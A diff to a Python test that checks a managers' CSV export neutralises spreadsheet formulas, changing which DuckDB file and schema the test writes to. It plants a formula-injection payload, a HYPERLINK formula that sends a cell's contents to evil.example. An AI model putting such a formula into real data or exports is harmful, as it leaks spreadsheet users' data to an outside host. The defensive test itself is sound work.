@@ -338,11 +338,11 @@ def test_the_managers_detail_csv_neutralises_formulas(published: Path, tmp_path:
 
     copy = tmp_path / "published.duckdb"
     shutil.copy(published, copy)
+    shutil.copy(published.with_name("restricted.duckdb"), tmp_path / "restricted.duckdb")
     evil = '=HYPERLINK("http://evil.example/?"&A1,"Soudure")'
-    with duckdb.connect(str(copy)) as con:
+    with duckdb.connect(str(tmp_path / "restricted.duckdb")) as con:
         con.execute(
-            "UPDATE restricted.mart_programme_month SET programme_name = ? "
-            "WHERE pool_id = 'technicity'",
+            "UPDATE main.mart_programme_month SET programme_name = ? WHERE pool_id = 'technicity'",
             [evil],
         )
     users = write_users(tmp_path / "users.toml", alice=("technicity", "correct horse"))
